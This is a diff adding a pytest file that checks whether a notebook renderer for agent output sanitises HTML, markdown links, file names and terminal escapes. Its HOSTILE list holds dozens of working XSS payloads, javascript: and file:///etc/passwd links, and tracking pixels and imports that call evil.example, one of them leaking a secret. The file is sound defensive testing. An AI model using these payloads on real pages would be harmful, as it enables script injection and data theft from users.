@@ -1,0 +1,157 @@
+"""Whatever an agent, a file name, a tool or an id says: the output holds allow-listed HTML and harmless text only."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from agentsvc_nb.notebook.render import Bundle, Extras, answer_bundle, job_bundle, status_bundle, text_bundle
+from agentsvc_nb.notebook.tables import files_bundle
+from agentsvc_nb.notebook.transcript import Call, Transcript
+from agentsvc_nb.wire.files import WorkspaceFile
+from agentsvc_nb.wire.runs import Run
+from agentsvc_nb.wire.tools import Job, Progress, ToolError
+from tests.notebook.allowlist import FORBIDDEN, offences
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "</div></details><script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "<img src=http://evil.example/pixel.png>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<base href=//evil.example/>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import url(//evil.example/x.css)</style>",
+    '<form action=//evil.example><input name="q" autofocus onfocus=alert(1)></form>',
+    "<object data=//evil.example/x.swf></object><embed src=x>",
+    "<video><source onerror=alert(1)></video>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<!-- --><!doctype html><?xml version='1.0'?>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "`<b onclick=alert(1)>`",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&#58;alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](data:image/png;base64,AAAA)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/steal)",
+    "[x](/lab/api/settings)",
+    "[x](command:jupyter.delete)",
+    '[x](https://ok.example "\\" onmouseover=alert(1)")',
+    "![pixel](http://evil.example/p.png?q=secret)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x][ref]\n\n[ref]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "<https://ok.example/?<script>>",
+    "```html onload=alert(1) x\" y='\n<script>alert(1)</script>\n```",
+    "```jp-Dialog</code></pre><script>alert(1)</script>\nx\n```",
+    "| a <script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;evil &#27;[31m",
+    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "\x9b31m\x1bP1;2q\x1b\\ \x1bc reset \x08\x08\x08 back \x00 nul \x7f del",
+    "abc\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c",
+    "\ufeff\U000e0041\U000e0042 hidden tags",
+    "lone surrogate \ud800 and \udfff",
+    "line one\rline two\u2028three\u2029four",
+    "$$\\href{javascript:alert(1)}{x}$$ \\url{javascript:alert(1)}",
+    "<" * 2000,
+    "[" * 2000,
+    "> " * 500 + "deep",
+    "x" * 5000,
+]
+
+
+def _view(text: str) -> Transcript:
+    run = Run(
+        run_id=text,
+        status=text,
+        chat=text,
+        output=text,
+        last_error=text,
+        last_error_message=text,
+        app_url=text,
+    )
+    view = Transcript(run_id=text, status=text, warnings=[text], calls=[Call(1, text, text), Call(2, "b", text, True)])
+    view.run = run
+    return view
+
+
+def _active(text: str) -> Transcript:
+    view = _view(text)
+    view.run, view.progress = None, {"done": text, "total": 3, "message": text}
+    return view
+
+
+def _files(text: str) -> Bundle:
+    file = WorkspaceFile(id=text, path=text, file_name=text, name=text, media_type=text, size_bytes=3)
+    picture = file.model_copy(update={"media_type": "image/svg+xml", "path": "p" + text})
+    return files_bundle([file, picture], lambda _: text.encode("utf-8", "replace"), caption=text)
+
+
+def _job(text: str) -> Bundle:
+    content = [{"type": "text", "text": text}, {"type": text, "text": text}]
+    progress = Progress(done=1, total=2, message=text)
+    job = Job(job_id=text, tool=text, status=text, content=content, progress=progress)
+    job.error = ToolError(code=text, message=text)
+    return job_bundle(job, 1.0, Extras((text,), _files(text)))
+
+
+def _structured(text: str) -> Bundle:
+    view = _view("")
+    assert view.run is not None
+    view.run.structured_output = {text: [text]}
+    return answer_bundle(view)
+
+
+PLACES: dict[str, Callable[[str], Bundle]] = {
+    "agent text": text_bundle,
+    "answer, ids, errors, tools, warnings": lambda text: answer_bundle(_view(text), Extras((text,), _files(text))),
+    "status line while active": lambda text: status_bundle(_active(text)),
+    "structured output": _structured,
+    "file names": _files,
+    "job, tool messages": _job,
+}
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
+def test_html_is_allow_listed_and_text_is_harmless(place: str, text: str) -> None:
+    bundle = PLACES[place](text)
+    assert set(bundle) == {"text/plain", "text/html"}
+    assert offences(bundle["text/html"]) == []
+    assert FORBIDDEN.findall(bundle["text/plain"]) == []
+
+
+@pytest.mark.parametrize(
+    "html",
+    ["<script>", "<a href='javascript:x'>", "<img src='http://x'>", "<b onclick=x>", "<p style='x:url(y);'>", "\x1b"],
+)
+def test_the_judge_itself_sees_offences(html: str) -> None:
+    assert offences(html)
+
+
+def test_good_links_stay_links_that_leak_no_referrer() -> None:
+    html = text_bundle("[a](https://ok.example/x?y=1&z) <mailto:a@b.example>")["text/html"]
+    assert html.count('rel="noopener noreferrer"') == 2
+    assert 'href="https://ok.example/x?y=1&amp;z"' in html
+
+
+def test_a_remote_image_is_a_link_with_its_text() -> None:
+    html = text_bundle("![the chart](https://ok.example/c.png)")["text/html"]
+    assert "<img" not in html
+    assert "[image: the chart]</a>" in html
+
+
+def test_table_cells_are_left_aligned_whatever_the_style_sheet_says() -> None:
+    html = text_bundle("| a | b |\n|---|--:|\n| 1 | 2 |")["text/html"]
+    assert html.count("text-align:left") == 4
